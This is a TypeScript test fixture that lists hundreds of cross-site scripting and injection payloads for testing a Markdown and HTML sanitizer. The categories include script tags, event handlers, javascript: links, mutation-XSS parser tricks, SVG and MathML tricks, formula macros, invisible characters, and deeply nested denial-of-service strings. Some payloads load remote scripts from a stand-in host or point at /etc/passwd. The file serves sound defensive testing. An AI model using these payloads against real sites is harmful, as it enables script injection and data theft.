/** Hostile texts. A payload that runs calls `xss` (injection-detector.ts) or leaves the host. */
export interface Vector {
  readonly group: string;
  readonly name: string;
  readonly text: string;
}

/** A host to which no request may be sent. */
export const ELSEWHERE = 'https://elsewhere.example';

const NUL = '\0';
const TAB = '\t';
const SOH = '\u0001';
const ZWSP = '\u200b';
const ZWJ = '\u200d';
const BOM = '\ufeff';
const RLO = '\u202e';
const PDI = '\u2069';
const LRI = '\u2066';
const NBSP = '\u00a0';
const SOFT_HYPHEN = '\u00ad';
const LINE_SEPARATOR = '\u2028';

const IMG = '<img src=x onerror=xss()>';
const SVG_DATA = `data:image/svg+xml;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="xss()"/>')}`;
const HTML_DATA = `data:text/html;base64,${btoa('<script>opener.xss()</script>')}`;

const GROUPS: Record<string, Record<string, string>> = {
  script: {
    plain: '<script>xss()</script>',
    mixedCase: '<ScRiPt>xss()</sCrIpT>',
    remote: `<script src=${ELSEWHERE}/x.js></script>`,
    protocolRelative: '<script src=//elsewhere.example/x.js></script>',
    module: `<script type="module">import '${ELSEWHERE}/x.js'</script>`,
    unclosed: '<script>xss()//',
    slash: '<script/x>xss()</script>',
    doubled: '<scr<script>ipt>xss()</scr</script>ipt>',
    inSvg: '<svg><script>xss()</script></svg>',
    afterClosing: '</p></div></article><script>xss()</script>',
    dataSource: '<script src="data:text/javascript,xss()"></script>',
  },
  handler: {
    imageError: IMG,
    imageUnclosed: '<img src=x onerror=xss()//',
    imageSlashes: '<img/src=x/onerror=xss()>',
    imageNewline: '<img src=x\nonerror\n=\nxss()>',
    imageBackquote: '<img src=`x` onerror=xss()>',
    imageEntities: '<img src=x onerror="&#120;ss()">',
    imageQuoteBreak: '<img alt="x" src="x" "onerror=xss()>',
    bodyLoad: '<body onload=xss()>',
    inputFocus: '<input autofocus onfocus=xss()>',
    detailsToggle: '<details open ontoggle=xss()><summary>x</summary></details>',
    videoError: '<video><source onerror=xss()></video>',
    audio: '<audio src=x onerror=xss()>',
    marquee: '<marquee onstart=xss()>x</marquee>',
    animation: '<p style="animation:spin 1s" onanimationstart=xss()>x</p>',
    pointer: '<p onpointerover=xss() onmouseover=xss() onclick=xss()>x</p>',
    popover: '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=xss()>x</p>',
    contentVisibility: '<p oncontentvisibilityautostatechange=xss() style=content-visibility:auto>x</p>',
    select: '<select autofocus onfocus=xss()><option>x</select>',
  },
  address: {
    javascript: '[x](javascript:xss())',
    angle: '[x](<javascript:xss()>)',
    mixedCase: '[x](JaVaScRiPt:xss())',
    entity: '[x](&#106;avascript:xss())',
    entityHex: '[x](&#x6A;avascript&#x3A;xss())',
    entityColon: '[x](javascript&colon;xss())',
    entityTwice: '[x](javascript&amp;colon;xss())',
    entityTab: '[x](java&Tab;script:xss())',
    entityNewline: '[x](java&NewLine;script:xss())',
    tab: `[x](<java${TAB}script:xss()>)`,
    newline: '[x](java\nscript:xss())',
    control: `[x](${SOH}javascript:xss())`,
    zeroWidth: `[x](java${ZWSP}script:xss())`,
    softHyphen: `[x](java${SOFT_HYPHEN}script:xss())`,
    noBreakSpace: `[x](${NBSP}javascript:xss())`,
    lineSeparator: `[x](<${LINE_SEPARATOR}javascript:xss()>)`,
    fullWidth: '[x](ｊａｖａｓｃｒｉｐｔ：xss())',
    fullWidthColon: '[x](javascript：xss())',
    percent: '[x](javascript%3Axss())',
    comment: '[x](javascript://%0Axss())',
    escaped: '[x](javascript\\:xss())',
    data: `[x](${HTML_DATA})`,
    dataPlain: '[x](data:text/html,<script>xss()</script>)',
    vbscript: '[x](vbscript:xss())',
    file: '[x](file:///etc/passwd)',
    blob: '[x](blob:https://elsewhere.example/x)',
    viewSource: '[x](view-source:javascript:xss())',
    feed: '[x](feed:javascript:xss())',
    protocolRelative: '[x](//elsewhere.example/x)',
    backslashes: '[x](\\\\\\\\elsewhere.example/x)',
    htmlLink: '<a href="javascript:xss()">x</a>',
    htmlEntities: '<a href="&#x6a;&#x61;vascript:xss()">x</a>',
    htmlControl: `<a href="${SOH} java${TAB}script:xss()">x</a>`,
    htmlTarget: `<a href="${ELSEWHERE}/x" target=_blank rel=opener>x</a>`,
    htmlDownload: `<a href="${HTML_DATA}" download ping="${ELSEWHERE}/ping">x</a>`,
    form: '<form action="javascript:xss()"><button>x</button></form>',
    formAction: '<form id=f></form><button form=f formaction=javascript:xss()>x</button>',
    base: `<base href="${ELSEWHERE}/">`,
    refresh: '<meta http-equiv=refresh content="0;url=javascript:xss()">',
    refreshElsewhere: `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/x">`,
  },
  frame: {
    iframe: '<iframe src=javascript:xss()></iframe>',
    srcdoc: '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    object: '<object data=javascript:xss()></object>',
    objectData: `<object type=text/html data="${HTML_DATA}"></object>`,
    embed: '<embed src=javascript:xss()>',
    frameset: '<frameset onload=xss()><frame src=x></frameset>',
    portal: `<portal src=${ELSEWHERE}/x></portal><fencedframe></fencedframe>`,
  },
  svg: {
    load: '<svg onload=xss()>',
    loadSlash: '<svg/onload=xss()>',
    link: '<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>',
    animate: '<svg><animate onbegin=xss() attributeName=x dur=1s>',
    setLink: '<svg><a><set attributeName=href to=javascript:xss() /><text y=20>x</text></a></svg>',
    foreign: `<svg><foreignObject>${IMG}</foreignObject></svg>`,
    use: `<svg><use href="${SVG_DATA}#x"/></svg>`,
    image: `<svg><image href="${ELSEWHERE}/x.png" onerror=xss() /></svg>`,
    desc: `<svg><desc><![CDATA[</desc>${IMG}]]></svg>`,
    markdownImage: `![x](${SVG_DATA})`,
  },
  mathml: {
    link: '<math><mtext href="javascript:xss()">x</mtext></math>',
    action: '<math><maction actiontype="statusline#x" xlink:href="javascript:xss()">x</maction></math>',
    annotation: `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
    glyph: '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
  },
  mutation: {
    noscript: '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    style: '<style><img src="</style><img src=x onerror=xss()//">',
    title: '<title><p title="</title><img src=x onerror=xss()>">',
    textarea: '<textarea><p title="</textarea><img src=x onerror=xss()>">',
    xmp: '<xmp><p title="</xmp><img src=x onerror=xss()>">',
    noembed: '<noembed><p title="</noembed><img src=x onerror=xss()>">',
    plaintext: `<plaintext>${IMG}`,
    template: `<template><p>x</p>${IMG}</template>`,
    shadow: `<div><template shadowrootmode=open>${IMG}</template></div>`,
    nestedForms:
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()></style></mglyph></form>',
    tableMath:
      '<math><mtext><table><mglyph><style><math>CLICKME</mtext></table><img src=x onerror=xss()></style>',
    svgStyle: '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
    mathComment: '<math><!--</math><img src=x onerror=xss()>-->',
    comment: '<!--><img src=x onerror=xss()>-->',
    commentBang: '<!--x--!><img src=x onerror=xss()>-->',
    conditional: '<![if gte mso 9]><img src=x onerror=xss()><![endif]>',
    cdata: `<![CDATA[><img src=x onerror=xss()>]]>`,
    processing: '<?xml ><img src=x onerror=xss()> ?>',
    backquotes: '<img alt="`x` onerror=xss() ``">',
    innerTable: '<table><td background="javascript:xss()"><tr><p title=">"style="x:y"onclick=xss()>x',
    isindex: '<isindex type=image src=1 onerror=xss()>',
    custom: `<x-y is="script">${IMG}</x-y>`,
    quotedStyle: '<p title=">" style="background:url(https://elsewhere.example/x.png)">x</p>',
    styleImport: `<style>@import "${ELSEWHERE}/x.css"; * { display: none }</style>`,
    stylesheet: `<link rel=stylesheet href=${ELSEWHERE}/x.css>`,
    prefetch: `<link rel=prefetch href=${ELSEWHERE}/x><link rel=dns-prefetch href=//elsewhere.example>`,
  },
  markdown: {
    linkTitle: `[x](https://example.com "x\\" onclick=\\"xss()")`,
    linkTitleTag: `[x](https://example.com '"><img src=x onerror=xss()>')`,
    addressBreak: '[x](https://example.com"onclick="xss())',
    addressTag: '[x](<https://example.com/"><script>xss()</script>>)',
    labelTag: `[${IMG}](https://example.com)`,
    reference: '[x][r1]\n\n[r1]: javascript:xss() "t"',
    referenceEntity: '[r2]\n\n[r2]: <java&Tab;script:xss()>',
    referencePrototype: '[__proto__]\n\n[__proto__]: javascript:xss()\n\n[constructor]',
    footnote: `x[^1]\n\n[^1]: <script>xss()</script>`,
    autolink: '<javascript:xss()>',
    autolinkData: '<data:text/html,xss()>',
    autolinkMail: `<x@elsewhere.example"onclick="xss()>`,
    bareAddress: `${ELSEWHERE}/"onmouseover="xss()`,
    imageScheme: '![x](javascript:xss())',
    imageElsewhere: `![x](${ELSEWHERE}/pixel.png)`,
    imageProtocolRelative: '![x](//elsewhere.example/pixel.png)',
    imageClimb: '![x](/api/images/../auth/logout)',
    imageUser: `![x](http://127.0.0.1@elsewhere.example/api/images/x.png)`,
    imageQuote: '![x"onerror="xss()](/api/images/x"onerror="xss().png)',
    imageLink: `[![x](${ELSEWHERE}/pixel.png)](javascript:xss())`,
    fence: '```"><img src=x onerror=xss()>\nx\n```',
    fenceTag: '```<script>\nxss()\n```',
    fenceClose: '```\n</code></pre><img src=x onerror=xss()>\n```',
    inlineCode: '`</code><img src=x onerror=xss()>`',
    table: `| ${IMG} | [x](javascript:xss()) |\n|:-:|---|\n| <script>xss()</script> | \`</td>${IMG}\` |`,
    task: `- [x] ${IMG}\n- [ ] [x](javascript:xss())`,
    headingTag: `## ${IMG} x`,
    headingPrototype: '## __proto__\n\n## constructor\n\n## toString',
    headingClobber: '## getElementById\n\n## cookie\n\n## body\n\n## location\n\n## xss',
    entities: '&lt;img src=x onerror=xss()&gt; &#60;script&#62;xss()&#60;/script&#62;',
    escapes: '\\<img src=x onerror=xss()\\>',
    underline: '<u onclick=xss()>x</u> <u>x<img src=x onerror=xss()></u> <u/onclick=xss()>',
    lineBreak: '<br onload=xss()> x<br/onclick=xss()><br><script>xss()</script>',
    quoteInList: `> - > 1. ${IMG}`,
    prototypeHtml: '<form id=__proto__><input name=body><img name=getElementById><a id=xss name=cookie>',
  },
  formula: {
    href: '$\\href{javascript:xss()}{x}$',
    url: '$\\url{javascript:xss()}$',
    htmlClass: '$\\htmlClass{fixed inset-0}{x}$',
    htmlStyle: '$\\htmlStyle{background:url(https://elsewhere.example/x.png)}{x}$',
    htmlData: '$\\htmlData{x=y}{x} \\htmlId{xss}{x}$',
    includegraphics: `$\\includegraphics[height=1em]{${ELSEWHERE}/x.png}$`,
    tag: '$<img src=x onerror=xss()>$',
    text: '$\\text{</span><img src=x onerror=xss()>}$',
    macros:
      '$$\n\\def\\a{\\b\\b\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d\\d\\d}\\def\\d{xxxxxxxx}\\a\n$$',
    endless: '$\\def\\x{\\x\\x}\\x$',
    huge: '$\\rule{99999em}{99999em}$',
    unbalanced: '$\\frac{{{{{$',
  },
  unseen: {
    nul: `<img src=x one${NUL}rror=xss()>`,
    nulTag: `<scr${NUL}ipt>xss()</script>`,
    nulAddress: `[x](java${NUL}script:xss())`,
    zeroWidthTag: `<scr${ZWSP}ipt>xss()</scr${ZWJ}ipt>`,
    byteOrder: `${BOM}<script>xss()</script>`,
    override: `${RLO}<img src=x onerror=xss()>${LRI}x${PDI}`,
    overrideLink: `[${RLO}moc.elpmaxe](javascript:xss())`,
    loneSurrogate: `\ud800<img src=x onerror=xss()>\udc00`,
    halfWidthBrackets: '＜script＞xss()＜/script＞ ‹img src=x onerror=xss()›',
    longCombining: `x${'\u0301'.repeat(500)}<img src=x onerror=xss()>`,
  },
};

export const VECTORS: readonly Vector[] = Object.entries(GROUPS).flatMap(([group, vectors]) =>
  Object.entries(vectors).map(([name, text]) => ({ group, name: `${group}: ${name}`, text })),
);

/** The first of each group and a few different ones. */
const ALSO = [
  'address: entityTab',
  'mutation: quotedStyle',
  'markdown: headingClobber',
  'markdown: table',
  'markdown: imageElsewhere',
  'markdown: fence',
  'formula: includegraphics',
];
export const SAMPLE_VECTORS: readonly Vector[] = VECTORS.filter(
  ({ group, name }, index) => VECTORS[index - 1]?.group !== group || ALSO.includes(name),
);

/** Texts nested too deeply for a parser without a limit. */
export const DEEP_TEXTS: Readonly<Record<string, string>> = {
  quotes: '>'.repeat(10_000),
  brackets: `${'['.repeat(10_000)}x`,
  links: `${'['.repeat(5_000)}x${'](y)'.repeat(5_000)}`,
  stars: `${'*'.repeat(10_000)}x${'*'.repeat(10_000)}`,
  starsApart: '*a '.repeat(10_000),
  lists: `${'- '.repeat(10_000)}x`,
  images: '!['.repeat(10_000),
  underlines: `${'<u>'.repeat(10_000)}x`,
  dollars: `$x${'$'.repeat(10_000)}`,
  formulas: '$x$ '.repeat(500),
  backquotes: Array.from({ length: 400 }, (_, length) => '`'.repeat(length)).join('x'),
};

/** Without characters that the server refuses in notes and cards. */
export const STORABLE_SAMPLE: readonly string[] = SAMPLE_VECTORS.map(({ text }) =>
  text.replaceAll('\0', '').replace(/\p{Surrogate}/gu, '\ufffd'),
);
